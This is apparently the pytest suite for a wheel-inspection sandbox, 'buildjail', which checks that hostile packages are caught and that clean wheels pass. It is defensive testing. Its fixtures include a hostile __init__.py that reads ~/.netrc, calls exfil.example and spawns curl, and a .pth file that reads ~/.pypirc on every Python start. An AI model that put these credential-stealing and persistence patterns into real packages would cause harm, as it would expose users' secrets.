"""``buildjail inspect``: a hostile wheel is caught in a real sandbox, judged from outside.

The hostile wheel's ``__init__.py`` resolves a name, connects to a listener of the host's,
reads ``~/.netrc`` and spawns ``curl``. Inspected, it exits 1 naming what it tried, and the
host sees nothing: the listener gets no connection, an inotify watch on the real
``~/.netrc`` (a unique token in a temporary HOME) sees no open, and the token is nowhere in
the output. The control imports the same wheel without a sandbox and sees all three.
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from buildjail._linux.inotify import DecoyWatch
from buildjail.attempts import attempt
from buildjail.inspection import (
    console_scripts,
    provided_modules,
    suspicious_attempts,
)
from conftest import Identity, Listener, host_address, processes_with
from wheels import rewrite_wheel, write_wheel

HOSTILE_INIT = """
import os, socket, subprocess
found = []
try:
    socket.getaddrinfo("exfil.example", 443)
except OSError as error:
    found.append(f"dns {{error}}")
try:
    socket.create_connection(({host!r}, {port}), timeout=5).close()
    found.append("connected")
except OSError as error:
    found.append(f"connect {{error}}")
try:
    with open(os.path.expanduser("~/.netrc")) as stream:
        found.append("netrc " + stream.read())
except OSError as error:
    found.append(f"netrc {{error}}")
for argv in (["/bin/true", "spawned"], ["curl", "-s", "http://exfil.example/"]):
    try:
        subprocess.run(argv, timeout=5, check=False, capture_output=True)
    except OSError as error:
        found.append(f"{{argv[0]}} {{error}}")
subprocess.Popen(["/bin/sleep", {marker!r}], start_new_session=True,  # a daemon left behind
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
raise RuntimeError(" | ".join(found))
"""
MARKER = f"{4000 + os.getpid() % 1000}.4711"
"""The hostile wheel's daemon sleeps this long: what the tests find it by on the host."""
ENTRY_POINTS = b"[console_scripts]\nhostile-tool = hostile.cli:main\n"
TOKEN = f"REAL-SECRET-{os.getpid()}-4711"


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A listener on a host address that the hostile wheel tries to reach."""
    address = host_address()
    if address.startswith("127."):
        pytest.skip("this host has no non-loopback IPv4 address to listen on")
    server = Listener(address)
    yield server
    server.close()


def hostile_wheel(directory: Path, listener: Listener) -> Path:
    """The hostile wheel, aimed at *listener*, with a console script."""
    init = HOSTILE_INIT.format(host=listener.address, port=listener.port, marker=MARKER)
    return write_wheel(directory, "hostile", files={
        "hostile/__init__.py": init.encode(),
        "hostile/cli.py": b"def main():\n    print('usage: hostile-tool')\n",
        "hostile-1.0.dist-info/entry_points.txt": ENTRY_POINTS})


@pytest.fixture
def real_home(shared_dir: Path) -> Iterator[Path]:
    """A HOME holding a real ``~/.netrc`` with a unique token, watched for opens."""
    home = shared_dir / "home"
    home.mkdir(mode=0o700)
    (home / ".netrc").write_text(f"machine pypi.org login me password {TOKEN}\n")
    (home / ".netrc").chmod(0o600)
    yield home


@contextlib.contextmanager
def watched(path: Path) -> Iterator[list[str]]:
    """Every open of *path* while the block runs (inotify, from the host)."""
    opened: list[str] = []
    watch = DecoyWatch({str(path): str(path)})
    try:
        yield opened
        watch.drain(opened.append, lambda: opened.append("overflow"))
    finally:
        os.close(watch.fd)


def _inspect(identity: Identity, backend: str, *args: str,
             home: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {"HOME": str(home)} if home else None
    return identity.run([identity.python, "-m", "buildjail", "inspect", "--backend", backend,
                         *args], env=env)


def _kinds(report: dict[str, Any], kind: str) -> list[dict[str, str]]:
    return [item for item in report["findings"] if item["kind"] == kind]


def test_a_hostile_wheel_is_caught_and_the_host_sees_nothing(
        identity: Identity, sandbox_backend: str, shared_dir: Path, listener: Listener,
        real_home: Path) -> None:
    wheel = hostile_wheel(shared_dir, listener)
    identity.own(real_home, wheel)
    with watched(real_home / ".netrc") as opened:
        proc = _inspect(identity, sandbox_backend, "--json", str(wheel), home=real_home)
    assert proc.returncode == 1, proc.stderr
    document = json.loads(proc.stdout)
    [report] = document["wheels"]
    assert report["verdict"] == "suspicious" and document["clean"] is False
    assert {"kind": "dns", "name": "exfil.example"} in report["findings"]
    assert {"kind": "credential", "path": "~/.netrc"} in report["findings"]
    assert {"kind": "connect", "address": listener.address, "port": str(listener.port),
            "protocol": "tcp"} in report["findings"]
    ran = [shlex.split(item["argv"]) for item in _kinds(report, "exec")]
    assert any(words[0] == "curl" for words in ran), ran
    assert any(words[0] == "/bin/true" for words in ran), ran
    assert {"kind": "outlived", "argv": f"/bin/sleep {MARKER}"} in report["findings"]
    assert processes_with(MARKER) == []  # and the sandbox ended it
    steps = {(step["kind"], step["name"]): step for step in report["steps"]}
    detail = steps[("import", "hostile")]["detail"]
    assert "netrc machine pypi.org" in detail and "buildjail-decoy-" in detail  # the decoy
    assert steps[("entry_point", "hostile-tool")]["kind"] == "entry_point"
    # Judged from outside: no connection, no open of the real file, the token nowhere.
    assert listener.connections == 0
    assert opened == []
    assert TOKEN not in proc.stdout + proc.stderr


def test_the_control_without_a_sandbox_is_seen(tmp_path: Path, listener: Listener,
                                               real_home: Path) -> None:
    """The same wheel imported on the host reaches the listener and reads the real file:
    the checks above would see an escape."""
    wheel = hostile_wheel(tmp_path, listener)
    site = tmp_path / "site"
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(site)
    with watched(real_home / ".netrc") as opened:
        proc = subprocess.run([sys.executable, "-I", "-c",
                               f"import sys; sys.path.insert(0, {str(site)!r}); import hostile"],
                              cwd=site,
                              env={**os.environ, "HOME": str(real_home)}, capture_output=True,
                              text=True, timeout=60, check=False)
    try:
        assert proc.returncode == 1 and "connected" in proc.stderr, proc.stderr
        assert TOKEN in proc.stderr
        assert listener.connections == 1
        assert opened
        assert len(processes_with(MARKER)) == 1  # its daemon outlives the import
    finally:
        for pid in processes_with(MARKER):
            os.kill(pid, signal.SIGKILL)



def test_the_table_names_what_was_tried(shared_dir: Path, listener: Listener) -> None:
    wheel = hostile_wheel(shared_dir, listener)
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", str(wheel)],
                          capture_output=True, text=True, timeout=300, check=False, cwd="/")
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0].endswith(": SUSPICIOUS") and lines[0].startswith("hostile 1.0 (")
    assert any(line.split()[:2] == ["import", "hostile"] and "failed: RuntimeError" in line
               for line in lines)
    assert any("entry point hostile-tool --help" in line for line in lines)
    assert any(line.split()[1:] == ["DNS", "exfil.example"] for line in lines)
    assert any(line.split()[1:] == ["read", "decoy", "~/.netrc"] for line in lines)


@pytest.fixture(scope="session")
def clean_wheel(wheelhouse: Path) -> Path:
    """A real wheel from the test cache: ``wheel`` 0.45.1, one package and a console script."""
    [path] = wheelhouse.glob("wheel-0.45.1-*.whl")
    return path


def test_a_real_clean_wheel_reports_nothing(sandbox_backend: str, clean_wheel: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--backend",
                           sandbox_backend, "--json", str(clean_wheel)], capture_output=True,
                          text=True, timeout=300, check=False, cwd="/")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    document = json.loads(proc.stdout)
    [report] = document["wheels"]
    assert report["verdict"] == "clean" and document["clean"] is True
    assert report["findings"] == []
    assert report["attempts"] and {item["kind"] for item in report["attempts"]} == {"exec"}
    assert all(words[2].endswith("_driver.py") for words in  # only the inspection's own steps
               (shlex.split(item["argv"]) for item in report["attempts"]))
    assert report["modules"] == ["wheel"]
    assert [(step["kind"], step["name"], step["ok"]) for step in report["steps"]] == [
        ("install", "", True), ("import", "wheel", True), ("entry_point", "wheel", True)]
    assert {"attempts:dns", "attempts:credentials"} <= set(report["layers"])


def test_failures_and_hangs_are_reported_each_alone(tmp_path: Path) -> None:
    """An import that fails or hangs is information, not an attempt: the others still run,
    and nothing suspicious means exit 0."""
    wheel = write_wheel(tmp_path, "moody", files={
        "broken.py": b"import no_such_module_anywhere\n",
        "hangs.py": b"import time\ntime.sleep(600)\n",
        "fine.py": b"VALUE = 1\n"})
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--timeout", "2",
                           "--json", str(wheel)], capture_output=True, text=True, timeout=120,
                          check=False, cwd="/")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    [report] = json.loads(proc.stdout)["wheels"]
    steps = {step["name"]: step for step in report["steps"] if step["kind"] == "import"}
    assert steps["fine"]["ok"] is True
    assert steps["broken"]["detail"] == (
        "ModuleNotFoundError: No module named 'no_such_module_anywhere'")
    assert steps["hangs"]["detail"] == "timed out after 2 s"
    assert report["verdict"] == "clean"


def test_a_wheel_for_another_python_is_incomplete_not_clean(tmp_path: Path) -> None:
    """Its code would not run here (an extension module for another ABI): not proven clean."""
    wheel = write_wheel(tmp_path, "other", files={"other.py": b"VALUE = 1\n"})
    renamed = rewrite_wheel(wheel, wheel.with_name("other-1.0-cp27-cp27mu-manylinux1_x86_64.whl"),
                            lambda name, data: data.replace(
                                b"Tag: py3-none-any", b"Tag: cp27-cp27mu-manylinux1_x86_64"))
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json",
                           str(renamed)], capture_output=True, text=True, timeout=120,
                          check=False, cwd="/")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    [report] = json.loads(proc.stdout)["wheels"]
    assert report["verdict"] == "incomplete"
    assert report["incomplete"][0].startswith("its tags are none that this Python")


def test_find_links_installs_the_dependencies(tmp_path: Path) -> None:
    links = tmp_path / "links"
    links.mkdir()
    write_wheel(links, "helper", files={"helper.py": b"ANSWER = 42\n"})
    wheel = write_wheel(tmp_path, "user", files={
        "user.py": b"import helper\nassert helper.ANSWER == 42\n"},
        requires=("helper>=1", "absent; python_version < '3'"))
    runs = {}
    for extra in ([], ["--find-links", str(links)]):
        proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json", *extra,
                               str(wheel)], capture_output=True, text=True, timeout=120,
                              check=False, cwd="/")
        assert proc.returncode == 0, proc.stdout + proc.stderr
        [report] = json.loads(proc.stdout)["wheels"]
        runs[bool(extra)] = report
    assert runs[False]["dependencies"] == []
    assert [step["ok"] for step in runs[False]["steps"] if step["kind"] == "import"] == [False]
    assert runs[True]["dependencies"] == ["helper-1.0-py3-none-any.whl"]
    assert [step["ok"] for step in runs[True]["steps"] if step["kind"] == "import"] == [True]


def test_a_pth_file_that_runs_at_every_start_is_caught(tmp_path: Path) -> None:
    """A ``.pth`` in site-packages runs whenever the environment's Python starts (the
    persistence of the 2026 compromises): the driver's own processes run it, and it is
    recorded all the same."""
    wheel = write_wheel(tmp_path, "sneaky", files={
        "sneaky.py": b"VALUE = 1\n",
        "sneaky.pth": b"import os; os.path.exists(os.path.expanduser('~/.pypirc')) and "
                      b"open(os.path.expanduser('~/.pypirc')).read()\n"})
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json", str(wheel)],
                          capture_output=True, text=True, timeout=120, check=False, cwd="/")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    [report] = json.loads(proc.stdout)["wheels"]
    assert report["findings"] == [{"kind": "credential", "path": "~/.pypirc"}]


def test_a_wheel_cannot_replace_the_environments_python(tmp_path: Path) -> None:
    """Scripts are not installed (the driver runs the entry points), and no member may
    overwrite a file that exists: the environment's ``bin/python`` stays the base's."""
    scripts = write_wheel(tmp_path, "scripted", files={
        "scripted.py": b"VALUE = 1\n",
        "scripted-1.0.data/scripts/python": b"#!/bin/sh\ncurl http://exfil.example/\n"})
    overwriting = write_wheel(tmp_path, "overwriting", files={
        "overwriting.py": b"VALUE = 1\n",
        "overwriting-1.0.data/data/pyvenv.cfg": b"home = /nowhere\n"})
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json",
                           str(scripts), str(overwriting)], capture_output=True, text=True,
                          timeout=120, check=False, cwd="/")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    first, second = json.loads(proc.stdout)["wheels"]
    assert first["verdict"] == "clean"
    assert [step["ok"] for step in first["steps"]] == [True, True]
    assert second["verdict"] == "incomplete"
    assert second["incomplete"] == [
        "the driver exited with 3", "the wheel was not installed: FileExistsError: [Errno 17] "
        "File exists: '/tmp/buildjail-inspect/env/pyvenv.cfg'"]


@pytest.mark.parametrize(("name", "content", "message"), [
    ("missing-1.0-py3-none-any.whl", None, "No such file or directory"),
    ("notazip-1.0-py3-none-any.whl", b"junk", "is not a zip file"),
    ("badly_named.whl", b"junk", "is not named"),
])
def test_bad_input_is_one_line_exit_2_and_leaves_nothing(
        tmp_path: Path, name: str, content: bytes | None, message: str) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    good = write_wheel(tmp_path, "good")
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", str(good), str(path)],
                          capture_output=True, text=True, timeout=60, check=False, cwd="/",
                          env={**os.environ, "TMPDIR": str(scratch)})
    assert proc.returncode == 2
    assert proc.stdout == ""
    [line] = proc.stderr.splitlines()
    assert line.startswith("buildjail: ") and message in line, line
    assert list(scratch.iterdir()) == []  # nothing left behind (the good wheel never ran)


def test_landlock_is_refused_with_125() -> None:
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--backend",
                           "landlock", "/nonexistent-1.0-py3-none-any.whl"],
                          capture_output=True, text=True, timeout=60, check=False, cwd="/")
    assert proc.returncode == 125
    assert "landlock backend records no attempts" in proc.stderr
    assert "fix:" in proc.stderr


def test_what_a_wheel_provides() -> None:
    files = ["pkg/__init__.py", "pkg/sub/mod.py", "ns/part.py", "single.py",
             "fast.cpython-311-x86_64-linux-gnu.so", "abi.abi3.so", "share/readme.txt",
             "x-1.0.data/purelib/extra/__init__.py", "x-1.0.data/scripts/tool",
             "x-1.0.data/data/lib/thing.py", "x-1.0.dist-info/METADATA", "bad-name.py"]
    assert provided_modules(files) == ["abi", "extra", "fast", "ns", "pkg", "single"]


def test_console_scripts_are_read_bounded_and_plain() -> None:
    text = ("[console_scripts]\ntool = pkg.cli:main [extra]\nmod-only = pkg.cli\n"
            "evil = os.system('x')\nnul\x00 = pkg:main\n[gui_scripts]\ngui = pkg:gui\n")
    assert console_scripts(text) == [("tool", "pkg.cli:main"), ("mod-only", "pkg.cli")]
    assert console_scripts("not an ini [") == []


def test_every_kind_is_suspicious_but_the_drivers_own_execs() -> None:
    ours = [["/usr/bin/python3", "-I", "/w/my driver.py", "/w/plan.json"]]
    recorded = [attempt("exec", argv=shlex.join(ours[0])),  # as the recorder writes it
                attempt("exec", argv=" ".join(ours[0])),  # not the same argv
                attempt("exec", argv=shlex.join(["curl", "-s", "http://x/"])),
                attempt("exec", argv="'cut"),  # unparsable: suspicious
                attempt("exec"),
                attempt("connect", address="192.0.2.2", port="80", protocol="tcp"),
                attempt("some-kind-added-later", what="x"),
                attempt("dns", name="exfil.example")]
    assert suspicious_attempts(recorded, ours) == tuple(recorded[1:])


def test_the_fromager_hook_is_inert_until_enabled_and_inspects_each_wheel_once(
        tmp_path: Path, listener: Listener) -> None:
    from types import SimpleNamespace

    from buildjail import Policy
    from buildjail.fromager import inspection as hook

    wheel = hostile_wheel(tmp_path, listener)
    ctx = SimpleNamespace(wheels_downloads=tmp_path / "nowhere")
    hook.post_build(ctx=ctx, dist_name="hostile", dist_version="1.0", wheel_filename=wheel)
    hook.enable(Policy.profile("full"), "native")
    try:
        with pytest.raises(hook.WheelRejectedError, match=r"DNS exfil\.example"):
            hook.post_bootstrap(ctx=ctx, req=None, dist_name="hostile", dist_version="1.0",
                                sdist_filename=None, wheel_filename=wheel)
        hook.post_build(ctx=ctx, dist_name="hostile", dist_version="1.0",
                        wheel_filename=wheel)  # the same wheel: inspected once
        hook.post_bootstrap(ctx=ctx, dist_name="calm", dist_version="1.0", wheel_filename=None)
    finally:
        hook.disable()


def test_the_standard_librarys_lookup_of_a_c_library_is_no_finding() -> None:
    recorded = [attempt("exec", argv="/sbin/ldconfig -p"),
                attempt("exec", argv="/sbin/ldconfig -p -v"),  # not what find_library runs
                attempt("exec", argv="ldconfig -p"),
                attempt("exec", argv="/usr/bin/gcc -Wl,-t -o /tmp/x -lmagic")]
    assert suspicious_attempts(recorded, []) == tuple(recorded[1:])


def test_a_wheel_that_looks_up_a_c_library_at_import_is_clean(tmp_path: Path) -> None:
    # As many a C library's wrapper does at import (python-magic, for one).
    wheel = write_wheel(tmp_path, "wrapper", files={
        "wrapper/__init__.py": b"import ctypes.util\nassert ctypes.util.find_library('c')\n"})
    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json", str(wheel)],
                          capture_output=True, text=True, timeout=300, check=False, cwd="/")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    [report] = json.loads(proc.stdout)["wheels"]
    assert report["findings"] == []
    assert {"kind": "exec", "argv": "/sbin/ldconfig -p"} in report["attempts"]  # recorded
